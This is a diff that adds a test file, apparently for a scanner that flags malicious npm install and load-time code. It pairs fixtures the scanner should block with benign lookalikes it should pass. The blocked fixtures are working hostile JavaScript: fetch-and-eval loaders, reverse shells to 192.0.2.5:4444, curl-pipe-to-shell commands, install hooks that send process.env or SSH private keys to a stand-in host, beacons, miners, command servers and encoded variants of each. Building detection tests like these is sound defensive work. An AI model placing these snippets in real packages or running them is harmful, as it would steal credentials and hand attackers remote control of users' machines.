@@ -1,0 +1,411 @@
+import { asCommand, atInstall, base64, describeVerdicts, hex } from "../../support/verdicts.ts";
+
+const url = "https://files.example.test/c";
+const steal = `fetch("${url}",{method:"POST",body:JSON.stringify(process.env)})`;
+
+describeVerdicts("EXE-01", {
+  blocks: {
+    "eval of an answer": `fetch("${url}").then((r) => r.text()).then((t) => eval(t));`,
+    "a function of an answer": `
+      const https = require("https");
+      https.get("${url}", (res) => {
+        let body = "";
+        res.on("data", (c) => (body += c));
+        res.on("end", () => new Function(body)());
+      });`,
+    "under other names": `
+      const g = globalThis, f = g["fet" + "ch"], r = [].constructor.constructor;
+      f("${url}").then(async (x) => r(await x.text())());`,
+    "split over files": {
+      files: {
+        "index.js": `const load = require("./a"); const run = require("./b"); load().then(run);`,
+        "a.js": `module.exports = async () => (await require("axios").get("${url}")).data;`,
+        "b.js": `const vm = require("vm"); module.exports = (code) => vm.runInThisContext(code);`,
+      },
+    },
+    encoded: `
+      const u = Buffer.from("${base64(url)}", "base64").toString();
+      const name = Buffer.from("${hex("eval")}", "hex").toString();
+      fetch(u).then((r) => r.text()).then((t) => globalThis[name](t));`,
+    "in an exported function": `
+      module.exports = async function check() {
+        const r = await fetch("${url}");
+        return new Function("return " + (await r.text()))();
+      };`,
+  },
+  passes: {
+    "a loader for the caller": `exports.load = async (u) => new Function(await (await fetch(u)).text());`,
+    "an answer that is parsed": `module.exports = () => fetch("${url}").then((r) => r.json()).then((j) => JSON.parse(j.x));`,
+    "an answer that is returned": `exports.get = async () => (await fetch("${url}")).text();`,
+    "a template of the caller": `exports.compile = (t) => new Function("d", "return \`" + t + "\`");`,
+  },
+});
+
+describeVerdicts("EXE-02", {
+  blocks: {
+    "a program that is hidden": atInstall(
+      `const fs = require("fs"), https = require("https"), cp = require("child_process"), os = require("os");
+       const f = os.tmpdir() + "/x.exe";
+       https.get("${url}", (r) => {
+         const out = fs.createWriteStream(f);
+         r.pipe(out);
+         out.on("finish", () => cp.spawn(f, [], { detached: true, stdio: "ignore" }).unref());
+       });`,
+    ),
+    "at load": `
+      const fs = require("fs");
+      (async () => {
+        const b = Buffer.from(await (await fetch("http://192.0.2.9/a")).arrayBuffer());
+        fs.writeFileSync("/tmp/.a", b, { mode: 0o755 });
+        require("child_process").exec("/tmp/.a");
+      })();`,
+  },
+  passes: {
+    "a build of this platform": {
+      manifest: {
+        name: "sample",
+        bin: { sample: "bin/run.js" },
+        scripts: { postinstall: "node install.js" },
+      },
+      files: {
+        "install.js": `
+          const fs = require("fs"), path = require("path"), cp = require("child_process");
+          const version = require("./package.json").version;
+          const file = path.join(__dirname, "bin", "sample");
+          const url = "https://files.example.test/sample/" + version + "/" + process.platform + "-" + process.arch;
+          fetch(url).then(async (r) => {
+            fs.writeFileSync(file, Buffer.from(await r.arrayBuffer()));
+            fs.chmodSync(file, 0o755);
+            cp.execFileSync(file, ["--version"]);
+          });`,
+        "bin/run.js": `require("child_process").spawnSync(__dirname + "/sample", process.argv.slice(2), { stdio: "inherit" });`,
+      },
+    },
+    "a download for the caller": `
+      const fs = require("fs");
+      exports.save = async (u, f) => fs.writeFileSync(f, Buffer.from(await (await fetch(u)).arrayBuffer()));`,
+    "data that is kept and another program": `
+      const fs = require("fs"), path = require("path");
+      exports.update = async () => fs.writeFileSync(path.join(__dirname, "list.json"), await (await fetch("${url}")).text());
+      exports.version = () => require("child_process").execFileSync("git", ["--version"]).toString();`,
+  },
+});
+
+describeVerdicts("EXE-03", {
+  blocks: {
+    "base64 in eval": `eval(Buffer.from("${base64(steal)}", "base64").toString("utf8"));`,
+    "hex in a function": `new Function(Buffer.from("${hex(steal)}", "hex").toString())();`,
+    numbers: `const c = [${[...steal].map((x) => x.charCodeAt(0) + 3).join(",")}]; (0, eval)(String.fromCharCode(...c.map((n) => n - 3)));`,
+    "backwards in a timer": `setTimeout(${JSON.stringify([...steal].reverse().join(""))}.split("").reverse().join(""), 10);`,
+    "a key": `
+      const d = "${hex([...steal].map((x) => String.fromCharCode(x.charCodeAt(0) ^ 42)).join(""))}";
+      let s = "";
+      for (let i = 0; i < d.length; i += 2) s += String.fromCharCode(parseInt(d.substr(i, 2), 16) ^ 42);
+      require("vm").runInThisContext(s);`,
+    "split over files": {
+      files: {
+        "index.js": `const { a } = require("./a"), { b } = require("./b"); eval(atob(a + b));`,
+        "a.js": `exports.a = "${base64(steal).slice(0, 60)}";`,
+        "b.js": `exports.b = "${base64(steal).slice(60)}";`,
+      },
+    },
+  },
+  passes: {
+    "an inlined worker": `
+      const src = "${base64("self.onmessage = (e) => { let s = 0; for (let i = 0; i < e.data; i++) s += i * i; self.postMessage(s); };".repeat(4))}";
+      exports.make = () => new Worker(URL.createObjectURL(new Blob([atob(src)], { type: "text/javascript" })));`,
+    "a module of numbers": `
+      const bytes = Buffer.from("${base64(`\0asm\x01\0\0\0${"\x01\x07\x01\x60\x02\x7f\x7f\x01\x7f".repeat(40)}`)}", "base64");
+      exports.load = () => WebAssembly.instantiate(bytes, {});`,
+    "a template function": `
+      exports.template = (text) => new Function("data", "let o='';" + text.replace(/\\{(\\w+)\\}/g, "';o+=data.$1;o+='") + "return o;");`,
+    "the global object": `const g = Function("return this")(); module.exports = g.setTimeout;`,
+  },
+});
+
+describeVerdicts("EXE-04", {
+  blocks: {
+    "a packed program": atInstall(
+      `const fs = require("fs");
+       const b = Buffer.from("${base64(`\x7fELF${"\x01\x02\x03\x04\x05\x06\x07\x08".repeat(60)}`)}", "base64");
+       fs.writeFileSync("/tmp/.svc", b, { mode: 0o755 });
+       require("child_process").spawn("/tmp/.svc", { detached: true, stdio: "ignore" }).unref();`,
+    ),
+    "a packed script for a shell": `
+      const s = Buffer.from("${base64("#!/bin/sh\nwhile true; do sleep 5; done\n".repeat(20))}", "base64");
+      require("fs").writeFileSync("/tmp/a.sh", s);
+      require("child_process").exec("sh /tmp/a.sh");`,
+  },
+  passes: {
+    "an image that is written": `
+      const png = Buffer.from("${base64(`\x89PNG${"\x01\x02\x03\x04\x05\x06\x07\x08".repeat(60)}`)}", "base64");
+      exports.write = (f) => require("fs").writeFileSync(f, png);`,
+    "a template that is written": asCommand(
+      `require("fs").writeFileSync("config.json", JSON.stringify({ a: 1 })); require("child_process").execSync("git init");`,
+    ),
+    "a file of the package that is started": asCommand(
+      `require("child_process").spawnSync(process.execPath, [__dirname + "/index.js"], { stdio: "inherit" });`,
+    ),
+  },
+});
+
+describeVerdicts("EXE-05", {
+  blocks: {
+    "a field of an error": `
+      const axios = require("axios");
+      axios.get("${url}").catch((err) => {
+        const handler = new Function("require", err.response.data);
+        handler(require);
+      });`,
+    "a cookie of an answer": `
+      module.exports = async () => {
+        const { data } = await require("axios").get("${url}");
+        return new (Function.constructor)("require", data.cookie)(require);
+      };`,
+  },
+  passes: {
+    "an error that is thrown": `exports.get = () => require("axios").get("${url}").catch((err) => { throw new Error(err.response.data.message); });`,
+    "an error that is printed": `exports.get = () => fetch("${url}").catch((err) => console.error(err.message));`,
+    "a function of one's own text": `exports.f = new Function("require", "return require('path')");`,
+  },
+});
+
+describeVerdicts("EXE-06", {
+  blocks: {
+    "a hidden module at install": atInstall(
+      `const m = Buffer.from("${base64("child_process")}", "base64").toString(); require(m).execSync("id");`,
+    ),
+    "a back door at install": atInstall(
+      `const b = process.binding("spawn_sync"); b.spawn({ file: "/bin/sh", args: ["sh", "-c", "id"] });`,
+    ),
+  },
+  passes: {
+    "the global object": `module.exports = Function("return this")();`,
+    "a plain name for bundlers": `const req = eval("require"); module.exports = req("fs");`,
+    "an optional module": `let ws; try { ws = require("bufferutil"); } catch {} module.exports = ws;`,
+  },
+});
+
+describeVerdicts("EXE-07", {
+  blocks: {
+    "a socket and a shell": `
+      const net = require("net"), cp = require("child_process");
+      const sh = cp.spawn("/bin/sh", []);
+      const s = new net.Socket();
+      s.connect(4444, "192.0.2.5", () => { s.pipe(sh.stdin); sh.stdout.pipe(s); sh.stderr.pipe(s); });`,
+    "a command": `require("child_process").exec("bash -c 'bash -i >& /dev/tcp/192.0.2.5/4444 0>&1'");`,
+    "a command that is encoded": atInstall(
+      `require("child_process").execSync(Buffer.from("${base64("nc 192.0.2.5 4444 -e /bin/sh")}", "base64").toString());`,
+    ),
+    "under other names": `
+      const n = require("node:net"), { spawn: x } = require("node:child_process");
+      const c = n.connect({ port: 443, host: "files.example.test" });
+      const p = x("cmd.exe");
+      c.on("data", (d) => p.stdin.write(d));
+      p.stdout.on("data", (d) => c.write(d));`,
+  },
+  passes: {
+    "a terminal of the caller": `exports.attach = (socket, shell) => { const p = require("child_process").spawn(shell); socket.pipe(p.stdin); p.stdout.pipe(socket); };`,
+    "a line reader": `exports.ask = () => require("readline").createInterface({ input: process.stdin });`,
+    "a proxy": `exports.proxy = (a, port, host) => { const b = require("net").connect(port, host); a.pipe(b); b.pipe(a); };`,
+  },
+});
+
+describeVerdicts("EXE-08", {
+  blocks: {
+    "orders that are fetched": `
+      const { exec } = require("child_process");
+      setInterval(async () => { const r = await fetch("${url}"); exec(await r.text()); }, 5000);`,
+    "orders over a socket": atInstall(
+      `const net = require("net"), { execSync } = require("child_process");
+       const s = net.connect(4444, "192.0.2.5");
+       s.on("data", (d) => s.write(execSync(d.toString())));`,
+    ),
+  },
+  passes: {
+    "commands of the user": asCommand(
+      `require("child_process").spawnSync(process.argv[2], process.argv.slice(3), { stdio: "inherit" });`,
+    ),
+    "a poll that is told": `exports.watch = (to, done) => setInterval(async () => done(await (await fetch(to)).json()), 1000);`,
+    "a fixed command": `setInterval(() => require("child_process").execFile("git", ["fetch"]), 60000).unref();`,
+  },
+});
+
+describeVerdicts("EXE-09", {
+  blocks: {
+    "an address from a chain": `
+      (async () => {
+        const r = await fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: "{}" });
+        const { result } = await r.json();
+        const next = await fetch(result[0].memo);
+        eval(await next.text());
+      })();`,
+    "an address from a name": `
+      require("dns").resolveTxt("d.example.test", (e, r) => fetch(r[0][0]).then((x) => x.text()).then((t) => require("vm").runInThisContext(t)));`,
+  },
+  passes: {
+    "a client of a chain": `exports.memo = async (sig) => (await (await fetch("https://api.mainnet-beta.solana.com", { method: "POST", body: sig })).json()).result;`,
+    "a record that is returned": `exports.txt = (name) => require("dns").promises.resolveTxt(name);`,
+    "a version of a release": `
+      exports.latest = async () => {
+        const v = await (await fetch("https://raw.githubusercontent.com/a/b/main/VERSION")).text();
+        return fetch("https://files.example.test/x-" + v.trim() + ".tgz");
+      };`,
+  },
+});
+
+describeVerdicts("EXE-11", {
+  blocks: {
+    "another package": atInstall(
+      `const fs = require("fs"), path = require("path");
+       fs.appendFileSync(path.join(__dirname, "..", "ethers", "lib", "index.js"), "x()");`,
+    ),
+    "in the project, at load": `
+      const fs = require("fs"), path = require("path");
+      fs.writeFileSync(path.join(process.cwd(), "node_modules", "express", "index.js"), "x()");`,
+  },
+  passes: {
+    "a cache": `require("fs").writeFileSync(process.cwd() + "/node_modules/.cache/sample/a.json", "{}");`,
+    "a patch tool": asCommand(
+      `require("fs").writeFileSync(process.cwd() + "/node_modules/express/index.js", require("fs").readFileSync("patches/a"));`,
+    ),
+    "its own files": atInstall(
+      `require("fs").writeFileSync(require("path").join(__dirname, "lib", "data.json"), "{}");`,
+    ),
+  },
+});
+
+describeVerdicts("EXE-13", {
+  blocks: {
+    "a pool": `require("child_process").spawn("./m", ["-o", "stratum+tcp://pool.example.test:3333", "-u", "x"]);`,
+    "a pool, encoded": atInstall(
+      `const a = Buffer.from("${base64("./m --donate-level 1 -o pool.example.test:3333")}", "base64").toString(); require("child_process").exec(a);`,
+    ),
+  },
+  passes: {
+    "a proof of work": `
+      const { createHash } = require("crypto");
+      exports.work = (s) => { let n = 0; while (!createHash("sha256").update(s + n).digest("hex").startsWith("000")) n++; return n; };`,
+    "a word": `exports.protocols = ["http", "stratum"];`,
+    "a worker for each core": `const os = require("os"), { Worker } = require("worker_threads"); exports.pool = (f) => os.cpus().map(() => new Worker(f));`,
+  },
+});
+
+describeVerdicts("EXE-14", {
+  blocks: {
+    "a server at install": atInstall(
+      `require("http").createServer((q, r) => r.end("ok")).listen(8080);`,
+    ),
+    "requests that are carried out": `
+      const { execSync } = require("child_process");
+      require("http").createServer((q, r) => r.end(execSync(decodeURIComponent(q.url.slice(1))))).listen(9999);`,
+  },
+  passes: {
+    "a server of the caller": `exports.serve = (port) => require("http").createServer((q, r) => r.end("ok")).listen(port);`,
+    "a command": asCommand(`require("http").createServer((q, r) => r.end("ok")).listen(3000);`),
+    "a middleware": `module.exports = (req, res, next) => { res.setHeader("x", "1"); next(); };`,
+  },
+});
+
+describeVerdicts("EXE-16", {
+  blocks: {
+    "a command that fetches": `require("child_process").exec("curl -s ${url} | sh");`,
+    "put together": `
+      const cp = require("child_process");
+      const parts = ["wget -qO- ", "${url}", " | ", "bash"];
+      cp.execSync(parts.join(""));`,
+    encoded: `
+      const c = Buffer.from("${base64(`curl ${url} -o /tmp/a && sh /tmp/a`)}", "base64").toString();
+      require("node:child_process").spawnSync("sh", ["-c", c]);`,
+    "in two files": {
+      files: {
+        "index.js": `require("./b")(require("./a"));`,
+        "a.js": `module.exports = "powershell -c \\"iex (iwr ${url})\\"";`,
+        "b.js": `const { exec } = require("child_process"); module.exports = (c) => exec(c);`,
+      },
+    },
+  },
+  passes: {
+    "a text": `console.log("install it with: curl ${url} | sh");`,
+    "a download": `exports.get = () => require("child_process").execSync("curl -fsSL ${url} -o data.json");`,
+    "another command": `require("child_process").execSync("git log -1 | cat");`,
+  },
+});
+
+describeVerdicts("INS-03", {
+  blocks: {
+    "an answer that is evaluated": atInstall(`fetch("${url}").then((r) => r.text()).then(eval);`),
+    "an answer that is loaded": atInstall(
+      `require("https").get("${url}", (r) => { let s = ""; r.on("data", (d) => { s += d; }); r.on("end", () => { const m = new module.constructor(); m._compile(s, "x.js"); }); });`,
+    ),
+    "under other names, encoded": atInstall(
+      `const u = atob("${base64(url)}"); const F = (async () => {}).constructor; fetch(u).then((r) => r.text()).then((t) => new F(t)());`,
+    ),
+  },
+  passes: {
+    "a file that is kept": atInstall(
+      `fetch("${url}").then(async (r) => require("fs").writeFileSync(__dirname + "/data.json", await r.text()));`,
+    ),
+    "an answer that is parsed": atInstall(
+      `fetch("${url}").then((r) => r.json()).then((j) => console.log(j.version));`,
+    ),
+    "a template": atInstall(`console.log(new Function("a", "return a + 1")(1));`),
+  },
+});
+
+describeVerdicts("INS-02", {
+  blocks: {
+    "the environment": atInstall(
+      `fetch("${url}", { method: "POST", body: JSON.stringify(process.env) });`,
+    ),
+    "a key": atInstall(
+      `const k = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa");
+       require("https").request("${url}", { method: "POST" }).end(k);`,
+    ),
+  },
+  passes: {
+    "a hook that prints": atInstall(`console.log("built on", process.env.NODE_ENV);`),
+    "a token for its own service": atInstall(
+      `fetch("https://api.github.com/repos/a/b/releases/latest", { headers: process.env.GITHUB_TOKEN ? { authorization: "token " + process.env.GITHUB_TOKEN } : {} }).then((r) => r.json()).then((j) => console.log(j.tag_name));`,
+    ),
+    "the same when called": `exports.env = () => JSON.stringify(process.env);`,
+  },
+});
+
+describeVerdicts("INS-17", {
+  blocks: {
+    "a beacon": atInstall(
+      `const os = require("os");
+       const q = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, d: __dirname, n: JSON.stringify(os.networkInterfaces()) });
+       require("https").get("${url}?" + q);`,
+    ),
+    "commands that tell": atInstall(
+      `const { execSync } = require("child_process");
+       const data = [execSync("whoami"), execSync("hostname"), execSync("uname -a"), execSync("ip addr")].join("\\n");
+       const r = require("http").request({ host: "192.0.2.9", method: "POST" }); r.end(data);`,
+    ),
+  },
+  passes: {
+    "a platform": atInstall(
+      `require("https").get("${url}?p=" + process.platform + "&a=" + process.arch + "&v=" + process.version);`,
+    ),
+    "facts that are printed": atInstall(
+      `const os = require("os"); console.log(os.hostname(), os.userInfo().username, os.release());`,
+    ),
+    "telemetry that is disclosed": {
+      manifest: {
+        name: "sample",
+        homepage: "https://sample.example.test",
+        scripts: { postinstall: "node t.js" },
+      },
+      files: {
+        "t.js": `
+          if (!process.env.SAMPLE_TELEMETRY_DISABLED) {
+            const os = require("os");
+            fetch("https://t.sample.test/v", { method: "POST", body: JSON.stringify({ v: process.version, p: os.platform(), r: os.release() }) });
+          }`,
+        "README.md": "Telemetry: set SAMPLE_TELEMETRY_DISABLED=1 to switch it off.",
+      },
+    },
+  },
+});
